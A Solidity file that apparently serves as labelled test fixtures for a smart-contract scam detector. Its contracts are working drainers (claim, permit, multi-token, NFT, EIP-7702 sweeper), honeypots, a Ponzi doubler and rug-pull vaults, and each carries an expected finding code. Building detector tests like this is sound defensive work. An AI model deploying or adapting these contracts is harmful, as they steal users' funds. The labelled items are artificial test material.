// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// Contracts that are no tokens, of the well-known kinds: drainers, sweeps, pools that can be emptied, riddles, queues, positions given to another.

interface IERC20 {
    function transfer(address, uint256) external returns (bool);
    function transferFrom(address, address, uint256) external returns (bool);
    function balanceOf(address) external view returns (uint256);
    function allowance(address, address) external view returns (uint256);
}

interface IERC721 {
    function transferFrom(address, address, uint256) external;
}

interface IERC1155 {
    function safeBatchTransferFrom(address, address, uint256[] calldata, uint256[] calldata, bytes calldata) external;
}

interface IPermit {
    function permit(address, address, uint256, uint256, uint8, bytes32, bytes32) external;
}

/// Claim drainer: takes the caller's ether and forwards it.
/// expects: CT-28 danger
contract ClaimRewards {
    address private immutable to;
    event Claimed(address who, uint256 points);
    constructor(address x) { to = x; }
    function Claim() external payable {
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok);
        emit Claimed(msg.sender, 0);
    }
    function claimReward(address who) external payable {
        (bool ok,) = to.call{value: msg.value}("");
        require(ok);
        emit Claimed(who, 1);
    }
    receive() external payable {}
}

/// Multi-token drainer: owner pulls approved tokens.
/// expects: AP-16 danger
contract Multicaller {
    address private owner;
    mapping(address => bool) workers;
    constructor() { owner = msg.sender; workers[msg.sender] = true; }
    function setWorker(address w, bool s) external { require(msg.sender == owner); workers[w] = s; }
    function run(IERC20[] calldata t, address[] calldata v, address sink) external {
        require(workers[msg.sender]);
        for (uint i; i < t.length; i++) {
            uint256 a = t[i].allowance(v[i], address(this));
            uint256 b = t[i].balanceOf(v[i]);
            t[i].transferFrom(v[i], sink, a < b ? a : b);
        }
    }
}

/// Permit drainer.
/// expects: AP-16 danger
contract PermitSweep {
    address immutable boss;
    uint256 constant SPLIT = 80;
    address immutable aff;
    constructor(address a) { boss = msg.sender; aff = a; }
    function sweep(address tok, address v, uint256 amt, uint256 dl, uint8 vv, bytes32 r, bytes32 s) external {
        require(msg.sender == boss || msg.sender == aff, "x");
        IPermit(tok).permit(v, address(this), type(uint256).max, dl, vv, r, s);
        uint256 c = amt * SPLIT / 100;
        IERC20(tok).transferFrom(v, aff, c);
        IERC20(tok).transferFrom(v, boss, amt - c);
    }
}

/// NFT drainer: generic calls batched, owner only.
/// expects: AP-16 danger
contract BatchNft {
    mapping(bytes32 => bool) k;
    constructor() { k[keccak256(abi.encode(msg.sender))] = true; }
    function process(address c, address v, address t, uint256[] calldata ids) external {
        require(k[keccak256(abi.encode(msg.sender))], "no");
        for (uint i = 0; i < ids.length; ++i) IERC721(c).transferFrom(v, t, ids[i]);
    }
    function process1155(address c, address v, address t, uint256[] calldata ids, uint256[] calldata n) external {
        require(k[keccak256(abi.encode(msg.sender))], "no");
        IERC1155(c).safeBatchTransferFrom(v, t, ids, n, "");
    }
}

/// Arbitrary call router open to all: anyone can use allowances given to it.
/// expects: AP-16 danger
contract OpenRouter {
    function swap(address from, uint256 amt, address target, bytes calldata data) external payable {
        IERC20(from).transferFrom(msg.sender, address(this), amt);
        (bool ok, bytes memory r) = target.call{value: msg.value}(data);
        if (!ok) assembly { revert(add(r, 32), mload(r)) }
    }
    receive() external payable {}
}

/// Staking whose owner sweeps the staked token under "rescue".
/// expects: CT-28 danger
contract StakePool {
    IERC20 public immutable token;
    address public owner;
    uint256 public apr = 5000;
    mapping(address => uint256) public staked;
    mapping(address => uint256) since;
    constructor(IERC20 t) { token = t; owner = msg.sender; }
    function stake(uint256 a) external {
        token.transferFrom(msg.sender, address(this), a);
        staked[msg.sender] += a;
        since[msg.sender] = block.timestamp;
    }
    function unstake() external {
        uint256 a = staked[msg.sender];
        staked[msg.sender] = 0;
        uint256 r = a * apr * (block.timestamp - since[msg.sender]) / 365 days / 10000;
        token.transfer(msg.sender, a + r);
    }
    function rescueTokens(address t, uint256 a) external {
        require(msg.sender == owner, "Ownable");
        IERC20(t).transfer(owner, a);
    }
}

/// Bank: deposits in ether, withdraw only while owner's flag is on (default off).
/// expects: CT-28 danger
contract EthBank {
    mapping(address => uint256) public balances;
    address private o;
    bool private live;
    constructor() { o = msg.sender; }
    function deposit() external payable { balances[msg.sender] += msg.value; }
    function withdraw(uint256 v) external {
        require(live || msg.sender == o, "maintenance");
        require(balances[msg.sender] >= v);
        balances[msg.sender] -= v;
        (bool s,) = msg.sender.call{value: v}("");
        require(s);
    }
    function setLive(bool b) external { require(msg.sender == o); live = b; }
    function migrate(address payable n) external { require(msg.sender == o); n.transfer(address(this).balance); }
}

/// Anybody delegatecalls anything.
/// expects: CT-11 danger
contract Exec {
    mapping(address => uint256) public funds;
    function deposit() external payable { funds[msg.sender] += msg.value; }
    function withdraw() external {
        uint256 v = funds[msg.sender];
        funds[msg.sender] = 0;
        payable(msg.sender).transfer(v);
    }
    function plug(address lib, bytes memory d) public returns (bytes memory) {
        (bool ok, bytes memory r) = lib.delegatecall(d);
        require(ok);
        return r;
    }
}

/// Unprotected initialize of a vault: whoever comes takes the role and can sweep.
/// expects: CT-28 danger, CT-35 danger
contract VaultInit {
    address public owner;
    IERC20 public asset;
    mapping(address => uint256) public shares;
    function initialize(address o, IERC20 a) external { owner = o; asset = a; }
    function deposit(uint256 v) external {
        asset.transferFrom(msg.sender, address(this), v);
        shares[msg.sender] += v;
    }
    function redeem(uint256 v) external { shares[msg.sender] -= v; asset.transfer(msg.sender, v); }
    function sweep(address to) external {
        require(msg.sender == owner);
        asset.transfer(to, asset.balanceOf(address(this)));
    }
}

/// 7702 sweeper: when delegated, all ether goes on; executor not the account.
/// expects: CT-28 danger
contract Sweeper7702 {
    address constant THIEF = 0x00000000000000000000000000000000DeaDBeef;
    receive() external payable { payable(THIEF).transfer(address(this).balance); }
    fallback() external payable {}
    function run(address t, uint256 v, bytes calldata d) external payable {
        require(msg.sender == THIEF);
        (bool ok,) = t.call{value: v}(d);
        require(ok);
    }
    function pull(address[] calldata tk) external {
        for (uint i; i < tk.length; i++) { IERC20(tk[i]).transfer(THIEF, IERC20(tk[i]).balanceOf(address(this))); }
    }
}

/// Quiz honeypot: answer hash can be changed by the hidden owner before the win.
/// expects: CT-28 danger
contract Quiz {
    string public question;
    bytes32 rh;
    mapping(bytes32 => bool) admin;
    constructor(bytes32[] memory a) { for (uint i; i < a.length; i++) admin[a[i]] = true; }
    function Try(string memory r) public payable {
        require(msg.sender == tx.origin);
        if (rh == keccak256(abi.encode(r)) && msg.value > 1 ether) payable(msg.sender).transfer(address(this).balance);
    }
    function Start(string calldata q, string calldata r) public payable isAdmin {
        question = q;
        rh = keccak256(abi.encode(r));
    }
    function Stop() public payable isAdmin { payable(msg.sender).transfer(address(this).balance); rh = 0x0; }
    function New(string calldata q, bytes32 h) public payable isAdmin { question = q; rh = h; }
    modifier isAdmin() { require(admin[keccak256(abi.encodePacked(msg.sender))]); _; }
    fallback() external {}
    receive() external payable {}
}

/// Ponzi doubler whose fee goes at once to the maker and where payouts only come if the maker calls.
/// expects: CT-28 danger
contract Doubler {
    address payable dev;
    struct P { address payable who; uint256 amt; }
    P[] q;
    uint256 idx;
    constructor() { dev = payable(msg.sender); }
    receive() external payable { enter(); }
    function enter() public payable {
        require(msg.value >= 0.1 ether);
        q.push(P(payable(msg.sender), msg.value * 2));
    }
    function payout(uint256 n) external {
        require(msg.sender == dev);
        for (uint i; i < n; i++) { P memory p = q[idx++]; p.who.transfer(p.amt); }
    }
    function finish() external { require(msg.sender == dev); selfdestruct(dev); }
}

/// Vesting wallet of others' tokens: creator "revokes" even vested tokens to himself, and changes beneficiary at will.
/// expects: CT-28 danger
contract VestSteal {
    struct S {
        address who;
        uint256 total;
        uint256 taken;
        uint64 start;
        uint64 dur;
    }
    mapping(uint256 => S) public s;
    uint256 n;
    IERC20 t;
    address a;
    constructor(IERC20 x) { t = x; a = msg.sender; }
    function buy(uint256 v) external returns (uint256) {
        t.transferFrom(msg.sender, address(this), v);
        s[++n] = S(msg.sender, v, 0, uint64(block.timestamp), 90 days);
        return n;
    }
    function claim(uint256 id) external {
        S storage k = s[id];
        require(k.who == msg.sender);
        uint256 e = (block.timestamp - k.start);
        if (e > k.dur) e = k.dur;
        uint256 v = k.total * e / k.dur - k.taken;
        k.taken += v;
        t.transfer(msg.sender, v);
    }
    function fix(uint256 id, address w) external { require(msg.sender == a); s[id].who = w; }
}

/// Bridge: an epoch nobody has set has the signer zero, and a broken signature recovers to zero.
/// expects: CT-28 danger
contract BridgeZero {
    address gov = msg.sender;
    mapping(uint256 => address) public signerOf;
    mapping(bytes32 => bool) done;
    event In(address a, uint256 v);
    function lock() external payable { emit In(msg.sender, msg.value); }
    function setSigner(uint256 e, address a) external { require(msg.sender == gov); signerOf[e] = a; }
    function release(uint256 epoch, address payable to, uint256 v, uint256 nonce, uint8 vv, bytes32 r, bytes32 s) external {
        bytes32 h = keccak256(abi.encode(to, v, nonce));
        require(!done[h]);
        done[h] = true;
        require(ecrecover(h, vv, r, s) == signerOf[epoch]);
        to.transfer(v);
    }
}

/// Savings: the withdraw pays msg.value-dependent bait (HoneyBadger: balance disorder).
/// expects: CT-28 danger
contract Multiplicator {
    address payable public Owner = payable(msg.sender);
    receive() external payable {}
    function withdraw() public payable { require(msg.sender == Owner); Owner.transfer(address(this).balance); }
    function multiplicate(address payable adr) public payable {
        if (msg.value >= address(this).balance) { adr.transfer(address(this).balance + msg.value); }
    }
}

/// Subscription drainer: honest looking "charge" whose amount is what the operator says.
/// expects: AP-16 danger
contract Subscribe {
    address public operator;
    mapping(address => bool) public active;
    IERC20 public usdc;
    constructor(IERC20 u) { usdc = u; operator = msg.sender; }
    function subscribe() external { active[msg.sender] = true; }
    function cancel() external { active[msg.sender] = false; }
    function charge(address u, uint256 v) external {
        require(msg.sender == operator);
        require(active[u]);
        usdc.transferFrom(u, operator, v);
    }
}
